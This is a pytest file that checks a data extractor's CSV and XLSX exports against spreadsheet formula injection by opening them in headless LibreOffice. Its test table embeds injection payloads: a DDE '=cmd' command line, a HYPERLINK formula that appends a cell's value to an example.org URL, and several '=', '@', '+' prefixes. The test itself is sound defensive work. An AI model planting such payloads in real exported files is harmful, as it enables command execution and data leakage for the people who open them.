"""What is exported, opened in a real spreadsheet: no cell is a formula, none a link."""

from __future__ import annotations

import shutil
import subprocess
import sys
from pathlib import Path

import pytest

PAPER = """# =cmd|' /C calc'!A0

Exford County Council

| =1+1 | 31 March 2021 | @SUM(1) |
| --- | --- | --- |
| =HYPERLINK("http://example.org/?"&A1,"look") children looked after | 388 | +12 |
| -2+3 children in care | 390 | -5 |
| ;=1+1 adoption orders | 12 | 1,234 |
"""
LIBREOFFICE = shutil.which("soffice")

pytestmark = pytest.mark.skipif(LIBREOFFICE is None, reason="LibreOffice is not installed here")


def extractor(*arguments: object) -> str:
    return subprocess.run(
        [sys.executable, "-m", "extractor", *map(str, arguments)],
        capture_output=True, text=True, encoding="utf-8", check=True,
    ).stdout  # fmt: skip


def opened(folder: Path, files: list[Path]) -> dict[str, str]:
    """Each file as LibreOffice understands it, in its flat XML."""
    subprocess.run(
        [
            str(LIBREOFFICE), f"-env:UserInstallation={(folder / 'profile').as_uri()}",
            "--headless", "--convert-to", "fods", "--outdir", str(folder), *map(str, files),
        ],
        capture_output=True, check=True, timeout=300,
    )  # fmt: skip
    return {path.name: path.read_text(encoding="utf-8") for path in folder.glob("*.fods")}


def test_no_cell_is_a_formula(tmp_path: Path) -> None:
    paper, database, out = tmp_path / "paper.md", tmp_path / "figures.db", tmp_path / "export"
    paper.write_text(PAPER, encoding="utf-8")
    extractor("ingest", paper, "--db", database, "--jobs", 1, "--quiet")
    extractor("export", "--db", database, "--out", out)
    (out / "tables.csv").write_text(extractor("tables", paper), encoding="utf-8")
    printed = extractor("extract", paper, "--format", "csv")
    (out / "extract.csv").write_text(printed, encoding="utf-8")
    folder = tmp_path / "opened"
    folder.mkdir()
    files = [*out.glob("*.csv"), *out.glob("*.xlsx")]
    found = opened(folder, files)
    assert len(found) == len(files)
    assert "HYPERLINK" in found["observations.fods"]
    for name, text in found.items():
        assert "table:formula" not in text, name
        assert 'xlink:href="http://example.org' not in text, name
